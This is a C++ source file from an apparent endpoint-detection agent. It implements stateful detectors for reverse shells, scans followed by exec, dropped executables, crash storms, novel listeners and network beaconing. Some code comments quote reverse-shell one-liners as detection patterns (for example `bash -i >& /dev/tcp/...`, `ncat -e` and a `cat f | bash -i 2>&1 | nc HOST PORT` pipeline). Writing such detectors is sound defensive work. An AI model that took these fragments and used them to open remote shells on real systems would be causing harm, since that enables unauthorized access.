// Stateful detectors (docs/detections.md): indicators that need more than one
// event. Moved out of pipeline.cpp, which only orchestrates.
#include "vigil/agent/detectors.h"

#include <fmt/format.h>

#include <array>
#include <cerrno>
#include <iterator>

#include "vigil/abi.h"
#include "vigil/features.h"

namespace vigil::agent {
namespace {

bool connect_succeeded(const Event& e) {
  if (e.type != EventType::kConnect) {
    return false;
  }
  const auto ret = std::get<SockData>(e.data).ret;
  return ret == 0 || ret == -EINPROGRESS;
}

constexpr std::size_t kLineageDepth = 8;

double seconds(std::uint64_t ns) { return static_cast<double>(ns) / 1e9; }

}  // namespace

bool StatefulDetectors::relayed_shell(const Event& e, const ProcessTable& table, double now) const {
  // A shell reading commands from its stdin (no -c, no script) whose stdin and
  // stdout are pipes or a pty, and whose output reaches a process with a TCP
  // connection out: the parent feeding it through pipes (`ncat -e`, `socat
  // exec:`), the holder of its pty (`socat exec:'bash -li',pty`, python's
  // pty.spawn, `script`), or a process of its tree reading its output from a
  // pipe (`cat f | bash -i 2>&1 | nc HOST PORT > f`). A relay that connects
  // only after the exec is matched at its connect (stateful_indicators).
  if (!reads_commands_from_stdin(e.args)) {
    return false;
  }
  const auto shell = wire_shell(e.pid, e.ppid, table.tree_of(e.pid), table.stdio_wiring(e.pid));
  if (!shell) {
    return false;
  }
  const auto* relay = table.find(shell->relay);
  if (relay != nullptr && is_login_service(relay->exe)) {
    return false;  // sshd, tmux, su: a login, not a relay
  }
  if (shell->relay != 0 &&
      (shell->relay_on_socket || sequences_.recently_connected(shell->relay, now))) {
    return true;
  }
  std::array<std::uint32_t, 8> peers{};
  const auto outs = std::span(shell->out).first(shell->n_out);
  for (const auto peer :
       std::span(peers).first(sequences_.recent_connects_in(shell->tree, now, peers))) {
    const FdEnd in = table.stdio(peer).fd[0];
    if (in.kind == FdKind::kPipe && std::ranges::find(outs, in.id) != outs.end()) {
      return true;
    }
  }
  return false;
}

void StatefulDetectors::evaluate(const Event& e, const ProcessTable& table, double now,
                                 std::vector<const Indicator*>& hits) {
  // The process tree, read once per event and only when a pattern needs it.
  std::array<std::uint32_t, kLineageDepth> tree{};
  std::size_t tree_n = 0;
  auto lineage = [&] {
    if (tree_n == 0) {
      tree_n = table.lineage_into(e.pid, tree);
      if (tree_n == 0) {
        tree[0] = e.pid;
        tree[1] = e.ppid;
        tree_n = 2;
      }
    }
    return std::span<const std::uint32_t>(tree.data(), tree_n);
  };
  const char* const exe_key = e.exe.empty() ? e.comm.c_str() : e.exe.c_str();
  // Who acted, by process, tree, user and executable: stateful detectors add
  // work up per unit, so a loop of short-lived processes is one actor.
  const auto actor = [&] {
    return Actor{
        .pid = e.pid, .ppid = e.ppid, .tree = table.tree_of(e.pid), .uid = e.uid, .exe = exe_key};
  };
  switch (e.type) {
    case EventType::kExec: {
      // Containers: a shell its image never ran (learned per image, fleet-wide).
      if (e.container) {
        const auto verdict = images_.observe(e);
        if (verdict == ImageProfiles::Verdict::kNovel) {
          hits.push_back(find_indicator("container-shell-novel"));
        } else if (verdict == ImageProfiles::Verdict::kUnprofiled) {
          hits.push_back(find_indicator("container-shell-unprofiled"));
        }
      }
      if (is_shell_or_interpreter(e.exe)) {
        if (table.stdio_is_socket(e.pid) || relayed_shell(e, table, now)) {
          // connect -> dup2 -> exec of a shell (bash -i >& /dev/tcp/..., nc -e),
          // or a shell whose output a connected process relays (pipes, pty).
          hits.push_back(find_indicator("reverse-shell"));
        } else if (reads_commands_from_stdin(e.args)) {
          // The relay may connect after the exec (a pipeline's members start
          // together): remember the shell's wiring for the relay window.
          const auto shell =
              wire_shell(e.pid, e.ppid, table.tree_of(e.pid), table.stdio_wiring(e.pid));
          const auto* relay = shell ? table.find(shell->relay) : nullptr;
          if (shell && (shell->relay != 0 || shell->n_out != 0) &&
              (relay == nullptr || !is_login_service(relay->exe))) {
            sequences_.shell_waiting(*shell, now);
          }
        }
      }
      // Host memory: a parent->child pair this host has never run.
      const auto* parent = table.find(e.ppid);
      if (parent != nullptr && !parent->exe.empty() && !e.exe.empty()) {
        key_buf_.assign(parent->exe);
        key_buf_.push_back('>');
        key_buf_.append(e.exe);
        if (baseline_.observe(key_buf_, seconds(e.ts_ns))) {
          hits.push_back(find_indicator("novel-parent-child"));
        }
      }
      // Patterns ending in an exec.
      if (writable_location(e.exe) && sequences_.exec_of_dropped(e.exe, lineage(), actor(), now)) {
        hits.push_back(find_indicator("dropped-exec"));
      }
      if (sequences_.watching_connects() &&
          sequences_.exec_after_scan_connect(lineage(), actor(), now)) {
        hits.push_back(find_indicator("scan-connect-exec"));
      }
      return;
    }
    case EventType::kExit: {
      // Crash storms spread over processes (copies of a binary, many binaries):
      // fatal-signal deaths add up per tree and per user.
      if (is_crash_signal(std::get<ExitData>(e.data).signal) &&
          crash_spread_.observe(actor(), now) != Spread::kNone) {
        hits.push_back(find_indicator("crash-storm"));
      }
      return;
    }
    case EventType::kCrashStorm:
      crash_spread_.reported(actor(), now);  // the kernel's storm: one finding, not two
      return;
    case EventType::kFile: {
      const auto& f = std::get<FileData>(e.data);
      if (f.op == VIGIL_FILE_CHMOD && f.ret == 0 && (f.mode & 0111U) != 0 &&
          writable_location(f.path) && !is_toolchain(e.exe) && freshly_written(f.path, e.ts_ns)) {
        // A chmod +x is part of write -> chmod -> exec only for a freshly written file.
        sequences_.made_executable(f.path, actor(), now);  // write -> chmod +x
      }
      return;
    }
    case EventType::kWxMemory:
    case EventType::kExecAdded:
      if (!hits.empty() && !e.exe.empty()) {
        // Which executables use W+X is learned per host: JITs are known after
        // the warm-up, anything else doing it later stands out.
        key_buf_.assign("wx>");
        key_buf_.append(e.exe);
        if (baseline_.observe(key_buf_, seconds(e.ts_ns))) {
          hits.push_back(find_indicator("wx-novel-executable"));
        }
      }
      return;
    case EventType::kListen: {
      const auto& sock = std::get<SockData>(e.data);
      if (sock.ret == 0) {
        key_buf_.assign("listen>");
        key_buf_.append(exe_key);
        fmt::format_to(std::back_inserter(key_buf_), ">{}", sock.lport);
        if (baseline_.observe(key_buf_, seconds(e.ts_ns))) {
          hits.push_back(find_indicator("novel-listener"));
        }
      }
      return;
    }
    case EventType::kAccept:
    case EventType::kConnect:
    case EventType::kConnectFailed:
    case EventType::kUdpSend: {
      const auto& sock = std::get<SockData>(e.data);
      const Actor a = actor();
      const bool linked = sock.proto == kProtoTcp &&
                          (e.type == EventType::kAccept ? sock.ret >= 0 : connect_succeeded(e));
      if (linked) {
        if (e.type == EventType::kConnect) {
          sequences_.connected_out(a.pid, a.tree, now);
        }
        // A shell waiting for its relay: does this process read its output?
        if (sequences_.shells_waiting(a.tree, now) && !is_login_service(e.exe)) {
          const FdEnd in = table.stdio(e.pid).fd[0];
          if (sequences_.relay_connected(a.pid, a.tree, in.kind == FdKind::kPipe ? in.id : 0,
                                         now)) {
            hits.push_back(find_indicator("reverse-shell"));
          }
        }
      }
      if (e.type == EventType::kAccept) {
        return;
      }
      // Refused or timed out: synchronously (connect's return) or later (a
      // non-blocking connect's SYN_SENT -> CLOSE, reported with ret 0).
      if (e.type == EventType::kConnectFailed ||
          (e.type == EventType::kConnect && sock.ret < 0 && sock.ret != -EINPROGRESS)) {
        if (connect_scans_.observe(a, sock.raddr, sock.rport, now) != Spread::kNone) {
          hits.push_back(find_indicator("connect-scan"));
          sequences_.scanned(a, now);
        }
      }
      if (connect_succeeded(e)) {
        if (sequences_.watching_scans()) {
          sequences_.connected(lineage(), a, now);  // scan -> connect
        }
        // Host memory: which programs talk to which remote ports.
        key_buf_.assign("port>");
        key_buf_.append(exe_key);
        fmt::format_to(std::back_inserter(key_buf_), ">{}", sock.rport);
        if (baseline_.observe(key_buf_, seconds(e.ts_ns))) {
          hits.push_back(find_indicator("novel-exe-port"));
        }
      }
      // Rhythm: one destination contacted at a steady period by one program,
      // one process tree (a new curl per callback, renamed copies) or one user.
      // Each unit's rhythm is kept on every contact; a beacon is reported once
      // per (unit, destination) new for this host: periodic services seen
      // during warm-up are learned.
      const auto ts = seconds(e.ts_ns);
      bool beacon = false;
      key_buf_.assign("beacon>");
      key_buf_.append(exe_key);
      fmt::format_to(std::back_inserter(key_buf_), ">{}:{}", sock.raddr, sock.rport);
      if (rhythm_.observe(key_buf_, now) > 0) {
        beacon |= baseline_.observe(key_buf_, ts);
      }
      if (a.tree > 1) {
        key_buf_.clear();
        fmt::format_to(std::back_inserter(key_buf_), "beacon>t{}>{}:{}", a.tree, sock.raddr,
                       sock.rport);
        if (rhythm_.observe(key_buf_, now) > 0) {
          // Learned by the tree's root program: the pid is not stable, the program is.
          const auto* root = table.find(a.tree);
          key_buf_.assign("beacon>tree:");
          key_buf_.append(root != nullptr && !root->exe.empty() ? root->exe : "?");
          fmt::format_to(std::back_inserter(key_buf_), ">{}:{}", sock.raddr, sock.rport);
          beacon |= baseline_.observe(key_buf_, ts);
        }
      }
      key_buf_.clear();
      fmt::format_to(std::back_inserter(key_buf_), "beacon>uid:{}>{}:{}", a.uid, sock.raddr,
                     sock.rport);
      if (rhythm_.observe(key_buf_, now) > 0) {
        beacon |= baseline_.observe(key_buf_, ts);
      }
      if (beacon) {
        hits.push_back(find_indicator("beaconing"));
      }
      return;
    }
    default:
      return;
  }
}

ExecLinks StatefulDetectors::exec_links(const Event& e, const ProcessTable& table, double now) {
  ExecLinks links;
  // nc, ncat, socat and busybox are both shells and feeders: a shell here is
  // one that reads its commands from stdin.
  if (is_shell_or_interpreter(e.exe) && reads_commands_from_stdin(e.args)) {
    const FdEnd in = table.stdio(e.pid).fd[0];
    if (in.kind != FdKind::kPipe) {
      return links;
    }
    if (const auto* f = pipes_.reader(in.id, e.exe, now)) {
      links.stdin_image = f->exe;
      links.stdin_command_line = f->command_line;
    }
  } else if (is_pipe_feeder(e.exe)) {
    const FdEnd out = table.stdio(e.pid).fd[1];
    if (out.kind != FdKind::kPipe) {
      return links;
    }
    feeder_command_line_.clear();
    for (const auto& a : e.args) {
      if (!feeder_command_line_.empty()) {
        feeder_command_line_.push_back(' ');
      }
      feeder_command_line_.append(a);
    }
    if (const auto* r = pipes_.feeder(out.id, e.exe, feeder_command_line_, now)) {
      links.stdout_image = r->exe;
    }
  }
  return links;
}

}  // namespace vigil::agent
